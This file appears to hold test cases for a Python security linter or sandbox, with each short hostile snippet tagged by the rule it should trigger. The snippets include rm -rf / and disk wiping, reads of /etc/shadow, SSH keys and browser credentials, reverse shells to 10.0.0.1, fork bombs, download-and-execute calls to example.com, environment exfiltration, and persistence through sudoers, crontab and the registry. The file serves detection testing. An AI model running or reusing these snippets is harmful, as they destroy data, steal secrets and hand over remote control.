#: rmtree root
import shutil
shutil.rmtree("/")  # expect: PY-FILE-DELETE error
#: rmtree home
import shutil, os
shutil.rmtree(os.path.expanduser("~"))  # expect: PY-FILE-DELETE error
#: rmtree home joined
import shutil, os
shutil.rmtree(os.path.join(os.path.expanduser("~"), "Documents"))  # expect: PY-FILE-DELETE warning
#: rmtree Path home
import shutil
from pathlib import Path
shutil.rmtree(Path.home())  # expect: PY-FILE-DELETE error
#: rmtree etc
import shutil
shutil.rmtree("/etc/nginx")  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE warning
#: remove passwd
import os
os.remove("/etc/passwd")  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE error
#: unlink Path
from pathlib import Path
Path("/etc/hosts").unlink()  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE warning
#: walk and remove home
import os
for root, dirs, files in os.walk("/home"):
    for name in files:
        os.remove(os.path.join(root, name))  # expect: PY-FILE-DELETE warning
#: walk and remove root
import os
for root, dirs, files in os.walk("/"):
    for f in files:
        try:
            os.unlink(os.path.join(root, f))  # expect: PY-FILE-DELETE warning
        except OSError:
            pass
#: glob and remove
import glob, os
for p in glob.glob("/var/log/*.log"):
    os.remove(p)  # expect: PY-FILE-DELETE warning
#: glob and remove home documents
import glob, os
for p in glob.glob(os.path.expanduser("~/Documents/**"), recursive=True):
    os.remove(p)  # expect: PY-FILE-DELETE warning
#: listdir remove
import os
for n in os.listdir("/etc"):
    os.remove("/etc/" + n)  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE warning
#: read shadow
print(open("/etc/shadow").read())  # expect: PY-SECRET-FILE warning
#: read shadow path
from pathlib import Path
print(Path("/etc/shadow").read_text())  # expect: PY-SECRET-FILE warning
#: read shadow joined
import os
print(open(os.path.join("/etc", "shadow")).read())  # expect: PY-SECRET-FILE warning
#: climbing
print(open("../../../../etc/shadow").read())  # expect: PY-SECRET-FILE warning
#: climbing passwd
print(open("../../../../../../etc/passwd").read())  # expect: PY-FILE-SENSITIVE warning
#: expandvars ssh
import os
print(open(os.path.expandvars("$HOME/.ssh/id_rsa")).read())  # expect: PY-SECRET-FILE warning
#: ssh by environment
import os
print(open(os.environ["HOME"] + "/.ssh/id_rsa").read())  # expect: PY-SECRET-FILE warning
#: ssh fstring
import os
home = os.path.expanduser("~")
print(open(f"{home}/.ssh/id_ed25519").read())  # expect: PY-SECRET-FILE warning
#: ssh list
import os
os.listdir(os.path.expanduser("~/.ssh"))  # expect: PY-SECRET-FILE warning
#: chrome profile
import os, shutil
shutil.copy(os.path.expanduser("~/.config/google-chrome/Default/Login Data"), "out")  # expect: PY-SECRET-FILE warning
#: chrome windows
import os
p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Cookies")  # expect: PY-SECRET-FILE warning
open(p, "rb").read()  # expect: PY-SECRET-FILE warning
#: firefox profile
import glob, os
for f in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json")): print(open(f).read())  # expect: PY-SECRET-FILE warning
#: keychain mac
open("/Users/me/Library/Keychains/login.keychain-db", "rb").read()  # expect: PY-SECRET-FILE warning
#: aws credentials
import os
open(os.path.expanduser("~/.aws/credentials")).read()  # expect: PY-SECRET-FILE warning
#: kube config
import os
open(os.path.expanduser("~/.kube/config")).read()  # expect: PY-SECRET-FILE warning
#: bash history read
import os
open(os.path.expanduser("~/.bash_history")).read()  # expect: PY-SECRET-FILE warning
#: bash history wipe
import os
open(os.path.expanduser("~/.bash_history"), "w").close()  # expect: PY-FILE-SENSITIVE error
#: history remove
import os
os.remove(os.path.expanduser("~/.bash_history"))  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE error
#: log wipe
open("/var/log/auth.log", "w").close()  # expect: PY-FILE-SENSITIVE warning
#: log wipe truncate
import os
os.truncate("/var/log/syslog", 0)  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE warning
#: log remove
import os
os.remove("/var/log/auth.log")  # expect: PY-FILE-DELETE warning, PY-FILE-SENSITIVE warning
#: kill pid 1
import os
os.kill(1, 9)  # expect: PY-PROCESS-RIGHTS error
#: kill all
import os, signal
os.kill(-1, signal.SIGKILL)  # expect: PY-PROCESS-RIGHTS error
#: kill other processes
import os, psutil
for p in psutil.process_iter():
    p.kill()  # expect: PY-PROCESS-RIGHTS warning
#: kill by name
import psutil
for p in psutil.process_iter(['name']):
    if p.info['name'] == 'chrome':
        p.terminate()  # expect: PY-PROCESS-RIGHTS warning
#: killall
import subprocess
subprocess.run(["killall", "-9", "nginx"])  # expect: PY-COMMAND warning
#: pkill
import os
os.system("pkill -f python")  # expect: PY-COMMAND warning
#: taskkill
import subprocess
subprocess.run(["taskkill", "/F", "/IM", "explorer.exe"])  # expect: PY-COMMAND warning
#: hosts write
with open("/etc/hosts", "a") as f: f.write("1.2.3.4 bank.com")  # expect: PY-FILE-SENSITIVE warning
#: resolv write
open("/etc/resolv.conf", "w").write("nameserver 1.2.3.4")  # expect: PY-FILE-SENSITIVE warning
#: ufw disable
import subprocess
subprocess.run(["ufw", "disable"])  # expect: PY-COMMAND error
#: iptables flush
import subprocess
subprocess.run(["iptables", "-F"])  # expect: PY-COMMAND error
#: iptables sudo
import subprocess
subprocess.run(["sudo", "iptables", "-F"])  # expect: PY-COMMAND error
#: netsh
import os
os.system("netsh advfirewall set allprofiles state off")  # expect: PY-COMMAND warning
#: systemctl stop firewalld
import subprocess
subprocess.run(["systemctl", "stop", "firewalld"])  # expect: PY-COMMAND warning
#: selinux
import os
os.system("setenforce 0")  # expect: PY-COMMAND error
#: fork bomb
import os
while True:
    os.fork()  # expect: PY-PROCESS-BOMB error
#: fork bomb nested
import os
while 1:
    try:
        os.fork()  # expect: PY-PROCESS-BOMB error
    except OSError:
        pass
#: process bomb
import multiprocessing
def f():
    while True:  # expect: PY-ENDLESS-GROWTH error
        multiprocessing.Process(target=f).start()
f()
#: subprocess self bomb
import subprocess, sys
while True:  # expect: PY-ENDLESS-GROWTH error
    subprocess.Popen([sys.executable, __file__])
#: fill memory
a = []
while True:  # expect: PY-ENDLESS-GROWTH warning
    a.append(" " * 10**8)
#: fill memory double
s = "x"
while True:  # expect: PY-ENDLESS-GROWTH warning
    s += s
#: fill disk
with open("fill.bin", "wb") as f:
    while True:  # expect: PY-ENDLESS-GROWTH warning
        f.write(b"0" * 1024 * 1024)
#: fill disk files
import itertools
for i in itertools.count():  # expect: PY-ENDLESS-GROWTH warning
    open(f"junk{i}", "w").write("x" * 10**6)
#: threads endless
import threading
while True:  # expect: PY-ENDLESS-GROWTH error
    threading.Thread(target=lambda: None).start()
#: reverse shell
import socket, subprocess, os
s = socket.socket()
s.connect(("10.0.0.1", 4242))  # expect: PY-NETWORK warning
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])  # expect: PY-COMMAND error
#: reverse shell popen
import socket, subprocess
s = socket.socket()
s.connect(("10.0.0.1", 4242))  # expect: PY-NETWORK warning
while True:
    c = s.recv(1024).decode()
    s.send(subprocess.getoutput(c).encode())  # expect: PY-COMMAND-INJECTION error
#: reverse shell fileno
import socket, subprocess
s = socket.socket()
s.connect(("10.0.0.1", 4242))  # expect: PY-NETWORK warning
subprocess.Popen(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # expect: PY-COMMAND warning
#: bind shell
import socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 4444)); s.listen(1)  # expect: PY-NETWORK-BINDING warning
c, a = s.accept()
while True:
    subprocess.run(c.recv(100).decode(), shell=True)  # expect: PY-COMMAND-INJECTION error
#: crontab command
import os
os.system('(crontab -l; echo "* * * * * x") | crontab -')  # expect: PY-COMMAND warning, PY-PERSISTENCE warning
#: crontab list stdin
import subprocess
subprocess.run(["crontab", "-"], input="* * * * * x", text=True)  # expect: PY-COMMAND warning, PY-PERSISTENCE warning
#: authorized keys
import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f: f.write("ssh-rsa AAA")  # expect: PY-FILE-SENSITIVE error
#: authorized keys path
from pathlib import Path
(Path.home() / ".ssh" / "authorized_keys").write_text("ssh-rsa AAA")  # expect: PY-FILE-SENSITIVE error
#: bashrc
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f: f.write("alias sudo=x")  # expect: PY-FILE-SENSITIVE error
#: bashrc Path
from pathlib import Path
p = Path.home() / ".bashrc"
with p.open("a") as f: f.write("x")  # expect: PY-FILE-SENSITIVE error
#: sudoers
with open("/etc/sudoers", "a") as f: f.write("x ALL=(ALL) NOPASSWD: ALL")  # expect: PY-FILE-SENSITIVE error
#: sudoers d
with open("/etc/sudoers.d/x", "w") as f: f.write("x")  # expect: PY-FILE-SENSITIVE error
#: chmod system
import os
os.chmod("/etc/passwd", 0o777)  # expect: PY-FILE-PERMISSION warning
#: chmod 777 root dir
import os
os.chmod("/usr/bin", 0o777)  # expect: PY-FILE-PERMISSION warning
#: chmod shell
import subprocess
subprocess.run(["chmod", "-R", "777", "/"])  # expect: PY-COMMAND error
#: chmod sudoers
import subprocess
subprocess.run(["chmod", "777", "/etc/sudoers"])  # expect: PY-COMMAND error
#: chown system
import os
os.chown("/etc/shadow", 1000, 1000)  # expect: PY-FILE-SENSITIVE error
#: setuid bit
import os
os.chmod("/bin/bash", 0o4755)  # expect: PY-FILE-PERMISSION warning
#: shutdown
import os
os.system("shutdown -h now")  # expect: PY-COMMAND warning
#: shutdown list
import subprocess
subprocess.run(["shutdown", "-h", "now"])  # expect: PY-COMMAND warning
#: reboot sudo
import subprocess
subprocess.run(["sudo", "reboot"])  # expect: PY-COMMAND warning
#: useradd
import subprocess
subprocess.run(["useradd", "-m", "-s", "/bin/bash", "eve"])  # expect: PY-COMMAND warning
#: sudo useradd
import subprocess
subprocess.run(["sudo", "useradd", "eve"])  # expect: PY-COMMAND warning
#: net user
import os
os.system("net user eve pass /add")  # expect: PY-COMMAND warning
#: passwd change
import os
os.system("echo root:x | chpasswd")  # expect: PY-COMMAND warning
#: download and run
import urllib.request, subprocess
urllib.request.urlretrieve("http://example.com/a.sh", "a.sh")
subprocess.run(["bash", "a.sh"])  # expect: PY-COMMAND warning
#: download and run requests
import requests, os
open("a.exe", "wb").write(requests.get("http://example.com/a.exe", timeout=3).content)
os.startfile("a.exe")  # expect: PY-COMMAND warning
#: download and exec
import requests
exec(requests.get("https://example.com/a.py", timeout=3).text)  # expect: PY-CODE-INJECTION error
#: download chmod run
import requests, os, subprocess
r = requests.get("https://example.com/x", timeout=3)
with open("/tmp/x", "wb") as f: f.write(r.content)  # expect: PY-FILE-TEMPORARY info
os.chmod("/tmp/x", 0o755)
subprocess.Popen("/tmp/x")  # expect: PY-COMMAND error
#: dd disk
import subprocess
subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda"])  # expect: PY-COMMAND error
#: write disk
open("/dev/sda", "wb").write(b"0" * 512)  # expect: PY-FILE-SENSITIVE warning
#: mkfs
import os
os.system("mkfs.ext4 /dev/sda1")  # expect: PY-COMMAND error
#: rm rf
import os
os.system("rm -rf /")  # expect: PY-COMMAND error
#: rm rf list
import subprocess
subprocess.run(["rm", "-rf", "/home/user"])  # expect: PY-COMMAND warning
#: rm rf star
import os
os.system("rm -rf ~/*")  # expect: PY-COMMAND error
#: rm no preserve
import subprocess
subprocess.run(["sudo", "rm", "-rf", "--no-preserve-root", "/"])  # expect: PY-COMMAND error
#: environment sent
import os, requests
requests.post("https://example.com", json=dict(os.environ), timeout=3)  # expect: PY-EXFILTRATION error
#: systemd service
open("/etc/systemd/system/x.service", "w").write("x")  # expect: PY-FILE-SENSITIVE error
#: registry run
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # expect: PY-FILE-SENSITIVE error
winreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")
#: launch agent
import os
open(os.path.expanduser("~/Library/LaunchAgents/x.plist"), "w").write("x")  # expect: PY-FILE-SENSITIVE error, PY-PERSISTENCE warning
#: startup folder
import os, shutil
shutil.copy("x.exe", os.path.join(os.getenv("APPDATA"), r"Microsoft\Windows\Start Menu\Programs\Startup"))  # expect: PY-PERSISTENCE warning
#: proc mem
open("/proc/1/mem", "rb").read()  # expect: PY-SECRET-FILE warning
#: proc environ
print(open("/proc/self/environ").read())  # expect: PY-SECRET-FILE warning
#: proc other environ
print(open("/proc/1/environ").read())  # expect: PY-SECRET-FILE warning
#: move system
import shutil
shutil.move("/bin/ls", "/tmp/ls")  # expect: PY-FILE-SENSITIVE warning
#: rename system
import os
os.rename("/etc/passwd", "/etc/passwd.bak")  # expect: PY-FILE-SENSITIVE error
#: symlink
import os
os.symlink("/etc/shadow", "link")  # expect: PY-SECRET-FILE warning
#: keylogger
from pynput import keyboard
keyboard.Listener(on_press=print).start()  # expect: PY-SECRET-STORE warning
#: mount
import subprocess
subprocess.run(["mount", "/dev/sdb1", "/mnt"])  # expect: PY-COMMAND warning
#: modprobe
import os
os.system("insmod rootkit.ko")  # expect: PY-COMMAND warning
#: history command
import os
os.system("history -c")  # expect: PY-COMMAND warning
#: journal
import subprocess
subprocess.run(["journalctl", "--vacuum-time=1s"])  # expect: PY-COMMAND warning
#: socket scan
import socket
for p in range(1, 65536):
    s = socket.socket()
    s.connect_ex(("192.168.1.1", p))  # expect: PY-NETWORK warning
#: clear event log
import os
os.system("wevtutil cl System")  # expect: PY-COMMAND warning
#: sudo cat shadow
import subprocess
subprocess.run(["sudo", "cat", "/etc/shadow"])  # expect: PY-COMMAND warning
#: cat shadow
import subprocess
print(subprocess.check_output(["cat", "/etc/shadow"]))  # expect: PY-COMMAND warning
#: sysctl
import os
os.system("sysctl -w kernel.randomize_va_space=0")  # expect: PY-COMMAND warning
#: write proc sys
open("/proc/sys/kernel/sysrq", "w").write("1")  # expect: PY-FILE-SENSITIVE warning
#: sysrq
open("/proc/sysrq-trigger", "w").write("c")  # expect: PY-FILE-SENSITIVE warning
#: ld preload file
open("/etc/ld.so.preload", "w").write("/tmp/x.so")  # expect: PY-FILE-SENSITIVE error
